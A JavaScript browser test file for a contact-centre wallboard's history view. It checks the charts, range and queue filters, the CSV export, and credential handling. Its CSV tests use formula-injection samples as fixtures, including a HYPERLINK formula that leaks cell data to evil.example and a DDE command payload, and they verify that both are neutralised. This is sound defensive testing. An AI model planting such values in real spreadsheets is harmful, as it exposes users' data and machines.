// The wallboard's history view in a real browser (Debian chromium + playwright-core): a simulated
// week of traffic stored as history, the view's charts, the range selector down to the hour, the
// queue multi-select, and the CSV export compared with GET /queue-history's series.
const { test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const fs = require('fs');
const path = require('path');
const { startEmulator } = require('../emulator');
const { startRuntime, root } = require('./helpers/runtime');
const { launchBrowser } = require('./helpers/history-browser');
const { seedHistory } = require('../scripts/seed-history');

const KEY = 'history-view-key-0123456789abcdef0123';
const ENV = { QUEUE_STATS_TIME_ZONE: 'UTC' };
let emu;
let rt;
let browser;
let page;
let seeded;
const sent = []; // the page's requests to the functions

before(async () => {
  emu = await startEmulator({ port: 0 });
  seeded = await seedHistory(emu, { days: 7, env: ENV });
  const env = emu.functionEnv();
  rt = await startRuntime({ env: { ...env, ...ENV, TWILIO_FLEX_WORKSPACE_SID: env.WORKSPACE_SID, TWILIO_FLEX_SYNC_SID: env.SYNC_SERVICE_SID, WALLBOARD_KEY: KEY } });
  browser = await launchBrowser({ viewport: { width: 1400, height: 1300 } });
  page = await browser.newPage();
  page.on('request', (r) => r.url().startsWith(rt.base) && sent.push({ url: r.url(), authorization: r.headers().authorization || null }));
});

after(async () => {
  if (browser) await browser.close();
  if (rt) await rt.stop();
  if (emu) await emu.close();
});

async function api(query) {
  const res = await fetch(rt.url(`/queue-history?${new URLSearchParams(query)}`), { headers: { Authorization: `Wallboard ${KEY}` } });
  assert.equal(res.status, 200);
  return res.json();
}

/** Waits for the view to finish a load started by `action`. */
async function loaded(action) {
  const before = await page.evaluate(() => document.body.dataset.loaded || '');
  await action();
  await page.waitForFunction((b) => document.body.dataset.loaded && document.body.dataset.loaded !== b, before, { timeout: 20000 });
}

const chartData = (id) =>
  page.evaluate((id) => {
    const c = Chart.getChart(document.getElementById(id));
    return c ? { labels: c.data.labels, datasets: c.data.datasets.map((d) => ({ label: d.label, data: d.data })) } : null;
  }, id);

test('the history view charts a simulated week', async () => {
  await loaded(() => page.goto(rt.url(`/wallboard/history.html#key=${KEY}`)));
  assert.deepEqual(browser.errors, []);
  const week = await api({ range: 'last7', by: 'hour' });
  const hour = await chartData('chart-hour');
  assert.equal(hour.labels.length, week.series.length);
  assert.deepEqual(hour.datasets[0].data, week.series.map((r) => r.entered));
  assert.ok(week.totals.entered > 1000, `a week of traffic: ${week.totals.entered}`);
  for (const id of ['chart-date', 'chart-hourOfDay', 'chart-dayOfWeek', 'chart-queue', 'chart-sla']) {
    const c = await chartData(id);
    assert.ok(c && c.labels.length > 0 && c.datasets.some((d) => d.data.some((v) => v > 0)), `${id} has data`);
  }
  assert.equal((await chartData('chart-hourOfDay')).labels.length, 24);
  assert.equal((await chartData('chart-dayOfWeek')).labels.length, 7);
  assert.deepEqual((await chartData('chart-queue')).labels, seeded.queues.map((q) => q.friendlyName).sort());
  const shots = path.join(root, 'docs', 'img');
  fs.mkdirSync(shots, { recursive: true });
  await page.screenshot({ path: path.join(shots, 'queue-history.png'), fullPage: true });
});

test('the range selector changes the charts, down to the hour', async () => {
  await loaded(async () => {
    await page.selectOption('#range', 'yesterday');
    await page.click('#apply');
  });
  assert.equal((await chartData('chart-hour')).labels.length, 24);
  assert.equal((await chartData('chart-date')).labels.length, 1);
  const y = new Date(Date.now() - 86400000).toISOString().slice(0, 10);
  await loaded(async () => {
    await page.selectOption('#range', 'custom');
    await page.fill('#from', `${y}T09:00`);
    await page.fill('#to', `${y}T12:00`);
    await page.click('#apply');
  });
  const hour = await chartData('chart-hour');
  const expected = await api({ from: `${y}T09:00`, to: `${y}T12:00`, by: 'hour' });
  assert.equal(hour.labels.length, 3);
  assert.deepEqual(hour.datasets[0].data, expected.series.map((r) => r.entered));
  assert.match(page.url(), /range=custom/);
});

test('queue multi-select aggregates the chosen queues', async () => {
  const [a, b] = seeded.queues;
  await loaded(async () => {
    await page.selectOption('#range', 'last7');
    await page.selectOption('#queues', [a.sid, b.sid]);
    await page.click('#apply');
  });
  const perQueue = await api({ range: 'last7', by: 'queue', queue: `${a.sid},${b.sid}` });
  assert.equal(perQueue.series.length, 2);
  const totals = await page.evaluate(() => window.queueHistoryView.answers.hour.totals);
  assert.equal(totals.entered, perQueue.series[0].entered + perQueue.series[1].entered);
  assert.equal(totals.accepted, perQueue.totals.accepted);
  assert.equal((await chartData('chart-queue')).labels.length, 2);
});

test('CSV export matches the series on screen', async () => {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
  const file = await download.path();
  const lines = fs.readFileSync(file, 'utf8').trim().split('\n');
  const header = lines[0].split(',');
  const rows = lines.slice(1).map((l) => Object.fromEntries(l.split(',').map((v, i) => [header[i], v])));
  const [a, b] = seeded.queues;
  for (const by of ['hour', 'date', 'hourOfDay', 'dayOfWeek', 'queue']) {
    const answer = await api({ range: 'last7', by, queue: `${a.sid},${b.sid}` });
    const mine = rows.filter((r) => r.by === by);
    assert.equal(mine.length, answer.series.length, by);
    answer.series.forEach((s, i) => {
      assert.equal(mine[i].key, s.key);
      assert.equal(Number(mine[i].entered), s.entered);
      assert.equal(mine[i].avgWait === '' ? null : Number(mine[i].avgWait), s.avgWait);
      assert.equal(mine[i].serviceLevel30 === '' ? null : Number(mine[i].serviceLevel30), s.serviceLevel['30']);
    });
  }
});

test('the CSV cell rule neutralises formulas (OWASP) and quotes per RFC 4180', () => {
  const { csvCell } = require('../assets/wallboard/csv.js');
  const cases = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"Support")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Support"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['Sales', 'Sales'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["O'Brien", "O'Brien"],
    [-3.5, '-3.5'],
    [0, '0'],
    [null, ''],
    [undefined, ''],
  ];
  for (const [value, expected] of cases) assert.equal(csvCell(value), expected, JSON.stringify(value));
});

test('the CSV export writes a formula-like queue name as text, not a live formula', async () => {
  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
  // The queue grouping's rows carry the queue names from TaskRouter; one is given a hostile name.
  const queueRows = await page.evaluate((name) => {
    const rows = window.queueHistoryView.answers.queue.series;
    rows[0].label = name;
    rows[rows.length - 1].label = '@cmd|" /C calc"!A0';
    return rows.length;
  }, evil);
  assert.ok(queueRows >= 1);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
  const text = fs.readFileSync(await download.path(), 'utf8');
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`), text.split('\n').filter((l) => l.startsWith('queue,')).join('\n'));
  assert.ok(text.includes(`"'@cmd|"" /C calc""!A0"`));
  // No cell of the file starts with a formula character (cells split by an RFC 4180 reader).
  const cells = [];
  for (const line of text.trim().split('\n')) {
    for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)) {
      if (m.index === line.length && m[0] === '') break;
      const raw = m[1];
      cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    }
  }
  assert.ok(cells.length > 100);
  const live = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c));
  assert.deepEqual(live, [], 'no live formula');
});

test('the page sends its credential in the Authorization header, never in a URL', () => {
  const calls = sent.filter((r) => new URL(r.url).pathname === '/queue-history');
  assert.ok(calls.length > 3, `${calls.length} calls`);
  for (const r of calls) {
    assert.equal(r.authorization, `Wallboard ${KEY}`, r.url);
    assert.doesNotMatch(r.url, /[?&](token|key)=/i, r.url);
  }
});
